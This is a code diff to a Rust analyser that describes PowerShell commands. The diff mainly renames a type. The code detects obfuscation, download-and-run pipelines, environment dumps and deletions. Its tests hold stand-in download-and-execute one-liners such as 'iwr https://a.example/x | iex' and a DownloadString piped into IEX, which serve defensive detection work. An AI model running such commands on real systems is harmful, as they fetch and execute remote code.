@@ -2,10 +2,10 @@
 
 use doorward_core::intent::Direction;
 
-use super::{Told, Value};
+use super::{CodeEffects, Value};
 
 /// What the statements do.
-pub(super) fn describe(told: &mut Told, text: &str) {
+pub(super) fn describe(effects: &mut CodeEffects, text: &str) {
     let lower = text.to_ascii_lowercase();
     let hidden = [
         "frombase64string",
@@ -18,7 +18,7 @@ pub(super) fn describe(told: &mut Told, text: &str) {
         "invokescript",
     ];
     if hidden.iter().any(|mark| lower.contains(mark)) {
-        told.finding("shell.obfuscated", "code or a command that is made on the spot");
+        effects.finding("shell.obfuscated", "code or a command that is made on the spot");
     }
     let mut downloads = false;
     for mark in [
@@ -43,14 +43,14 @@ pub(super) fn describe(told: &mut Told, text: &str) {
         })
     });
     if downloads && (runs || lower.contains("iex")) {
-        told.finding("shell.remote_code", "runs what it downloads");
+        effects.finding("shell.remote_code", "runs what it downloads");
     }
     // `.NET`'s own readers.
     for reader in ["readalltext(", "readalllines(", "readallbytes(", "readlines("] {
         for (at, _) in lower.match_indices(reader) {
             let inside =
                 text.get(at + reader.len()..).and_then(|rest| rest.split(')').next()).unwrap_or_default();
-            told.read(&Value::literal(inside.trim().trim_matches(['\'', '"'])));
+            effects.read(&Value::literal(inside.trim().trim_matches(['\'', '"'])));
         }
     }
     for pipeline in statements(text) {
@@ -65,11 +65,11 @@ pub(super) fn describe(told: &mut Told, text: &str) {
         let ran =
             pipeline.iter().rposition(|words| matches!(first(words).as_str(), "iex" | "invoke-expression"));
         if matches!((fetched, ran), (Some(fetched), Some(ran)) if fetched < ran) {
-            told.finding("shell.remote_code", "runs what it downloads");
+            effects.finding("shell.remote_code", "runs what it downloads");
         }
     }
     for part in text.split(['\'', '"']).filter(|part| part.contains("://") && !part.contains(' ')) {
-        told.host(
+        effects.host(
             &Value::literal(part),
             "https",
             if lower.contains("upload") || lower.contains("-method post") {
@@ -80,14 +80,14 @@ pub(super) fn describe(told: &mut Told, text: &str) {
         );
     }
     if lower.contains("::delete(") || lower.contains("::deletefile(") || lower.contains(".delete(") {
-        told.delete(&Value::unknown(), true);
+        effects.delete(&Value::unknown(), true);
     }
     if lower.contains("$env:")
         || lower.contains("env:*")
         || lower.contains("gci env:")
         || lower.contains("get-childitem env:")
     {
-        told.env(if lower.contains("env:*") || lower.contains(" env:") { "*" } else { "env" });
+        effects.env(if lower.contains("env:*") || lower.contains(" env:") { "*" } else { "env" });
     }
     for words in statements(text).into_iter().flatten() {
         let mut words = words;
@@ -98,7 +98,7 @@ pub(super) fn describe(told: &mut Told, text: &str) {
                 .is_some_and(|name| name.starts_with(['(', '$']) || name.contains('+') || name == "(")
             || words.first().is_some_and(|first| first.starts_with("&(") || first.starts_with("&$"))
         {
-            told.finding("shell.obfuscated", "which command runs can't be seen");
+            effects.finding("shell.obfuscated", "which command runs can't be seen");
         }
         let evaluates = words
             .first()
@@ -118,7 +118,7 @@ pub(super) fn describe(told: &mut Told, text: &str) {
             } else {
                 Value::literal(plain)
             };
-            told.nested("powershell", &shown);
+            effects.nested("powershell", &shown);
             continue;
         }
         while words.first().is_some_and(|first| {
@@ -134,7 +134,7 @@ pub(super) fn describe(told: &mut Told, text: &str) {
             if first.starts_with('$') && words.len() == 1 {
                 continue;
             }
-            told.finding("shell.obfuscated", "which command runs can't be seen");
+            effects.finding("shell.obfuscated", "which command runs can't be seen");
             continue;
         }
         let keyword = matches!(
@@ -169,7 +169,7 @@ pub(super) fn describe(told: &mut Told, text: &str) {
                 .filter(|word| !word.is_empty() && *word != "@(" && *word != ")")
                 .map(Value::literal)
                 .collect();
-            told.argv(&argv);
+            effects.argv(&argv);
             continue;
         }
         // Bash has a `type` too, which only tells what a name is.
@@ -178,7 +178,7 @@ pub(super) fn describe(told: &mut Told, text: &str) {
             .chain(words.iter().skip(1).map(|word| word.trim_matches(['\'', '"']).to_owned()))
             .map(|word| Value::literal(if word.starts_with('$') { "…".to_owned() } else { word }))
             .collect();
-        told.argv(&values);
+        effects.argv(&values);
     }
 }
 
@@ -238,7 +238,8 @@ mod tests {
                 ("iwr https://a.example/x | iex", "remote_code; argv iwr https://a.example/x; argv iex"),
                 (
                     "IEX (New-Object Net.WebClient).DownloadString('https://a.example/x')",
-                    "fetch a.example; remote_code; argv IEX (New-Object Net.WebClient).DownloadString('https://a.example/x')",
+                    "fetch a.example; remote_code; argv IEX (New-Object \
+                        Net.WebClient).DownloadString('https://a.example/x')",
                 ),
                 ("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('eA=='))", "obfuscated"),
             ],
